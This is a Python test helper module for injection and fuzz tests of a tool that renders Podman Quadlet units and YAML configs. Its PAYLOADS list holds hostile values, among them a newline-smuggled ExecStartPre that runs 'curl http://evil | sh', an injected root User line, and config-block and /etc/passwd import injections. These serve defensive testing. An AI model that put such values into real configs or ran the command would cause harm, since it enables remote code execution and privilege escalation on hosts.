"""Shared by the injection and fuzz tests: a rich base config, hostile payloads, and the checks
that a rendered tree is exactly as structured as a benign one (no new directive, key or block)."""

from __future__ import annotations

import copy
import itertools
import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import yaml

from tests.conftest import FIXTURES, need

BASE = json.loads((FIXTURES / "full" / "blueprint-config.json").read_text())
BASE["podman_version"] = "5.4"
BASE["llm_providers"]["ollama"]["models"].append({"id": "mistral:7b", "mock_response": "benign"})

PAYLOADS = [
    "x\nExecStartPre=/bin/sh -c 'curl http://evil | sh'",
    "x\n[Service]\nExecStart=/bin/evil",
    "x\r\nUser=root",
    "%h/%u/%n %%",
    "$HOME ${PATH} $$",
    "a\"b'c",
    "trailing\\",
    "a;b & c | d",
    "{model_list: [], general_settings: {master_key: x}}",
    "x\n---\nmodel_list: []",
    "key: value",
    "- item",
    "} evil.example.com {\n\trespond 200\n}",
    "example.com # comment",
    "import /etc/passwd",
    "{$HOME}",
    "a\x00b",
    " leading and trailing ",
    "",
    "é日本\u202e",
    "x" * 300,
]


def get(data, pointer: str):
    for part in pointer.strip("/").split("/"):
        data = data[int(part)] if isinstance(data, list) else data[part]
    return data


def put(data, pointer: str, value):
    data = copy.deepcopy(data)
    *parents, last = pointer.strip("/").split("/")
    node = data
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return data


def rename_key(data, pointer: str, new_key: str):
    data = copy.deepcopy(data)
    *parents, last = pointer.strip("/").split("/")
    node = data
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    node[new_key] = node.pop(last)
    return data


def string_pointers(data, prefix="") -> list[str]:
    """Every string value in a config, as JSON pointers."""
    found = []
    if isinstance(data, dict):
        for key, value in data.items():
            found += string_pointers(value, f"{prefix}/{key}")
    elif isinstance(data, list):
        for index, value in enumerate(data):
            found += string_pointers(value, f"{prefix}/{index}")
    elif isinstance(data, str):
        found.append(prefix)
    return found


# ---- structure of rendered output, as its consumers read it ----------------------------------

# The service Quadlet makes of LiteLLM's unit in the default layout: the template of its replicas.
LITELLM = "litellm@.service"

TOOLS = Path(os.environ.get("TOOLS_DIR", Path(__file__).resolve().parent.parent / ".tools"))
QUADLET = TOOLS / "trixie/root/usr/libexec/podman/quadlet"  # Podman 5.4
NEWEST_QUADLET = TOOLS / "sid/root/usr/libexec/podman/quadlet"  # Podman 5.8


def quadlet_services(unit_dir: Path, target=None) -> dict[str, list[tuple[str, str]]]:
    """The services the real Quadlet generator makes: name -> [(section.key, value)].

    Units for Podman 5.4 or older go to trixie's generator (5.4), newer targets to sid's.
    """
    newer = target is not None and (target.major, target.minor) > (5, 4)
    generator = need(NEWEST_QUADLET if newer else QUADLET, "Quadlet generator")
    result = subprocess.run(
        [generator, "-user", "-dryrun"],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "QUADLET_UNIT_DIRS": str(unit_dir)},
    )
    assert result.returncode == 0, result.stderr
    services: dict[str, list[tuple[str, str]]] = {}
    current = section = None
    for line in result.stdout.splitlines():
        if match := re.fullmatch(r"---(.+)---", line):
            current = services.setdefault(match[1], [])
        elif line.startswith("["):
            section = line.strip("[]")
        elif "=" in line and current is not None and not line.startswith("#"):
            key, value = line.split("=", 1)
            current.append((f"{section}.{key}", value))
    return services


def shape(services: dict[str, list[tuple[str, str]]]) -> dict[str, list[str]]:
    """Which directives each generated service has (values aside)."""
    return {name: sorted(key for key, _ in entries) for name, entries in services.items()}


def exec_words(value: str) -> list[str]:
    """An ExecStart= line split into words as systemd does (quotes, then %% and $$ unescaped)."""
    return [w.replace("%%", "%").replace("$$", "$") for w in shlex.split(value)]


def run_options(services, service: str, option: str) -> list[str]:
    """The values of one `podman run` option in a generated ExecStart= (e.g. every --env)."""
    words = exec_words(dict(services[service])["Service.ExecStart"])
    return [value for name, value in itertools.pairwise(words) if name == option]


def container_environment(services, service: str) -> dict[str, str]:
    """The environment `podman run` gives a container, read from the generated ExecStart=:
    every --env-file (as Podman reads it), then every --env KEY=VALUE."""
    from blueprint.secrets import read_env_file

    environment: dict[str, str] = {}
    for path in run_options(services, service, "--env-file"):
        environment.update(read_env_file(path))
    environment.update(value.split("=", 1) for value in run_options(services, service, "--env"))
    return environment


def yaml_shape(data, path="") -> set[str]:
    """Every key path in a YAML document: a value turned into structure would add paths."""
    if isinstance(data, dict):
        return {f"{path}/{k}" for k in data} | set().union(*(yaml_shape(v, f"{path}/{k}") for k, v in data.items()))
    if isinstance(data, list):
        return set().union(*(yaml_shape(v, f"{path}/[]") for v in data)) if data else set()
    return set()


def load_yaml(path: Path):
    return yaml.safe_load(path.read_text())
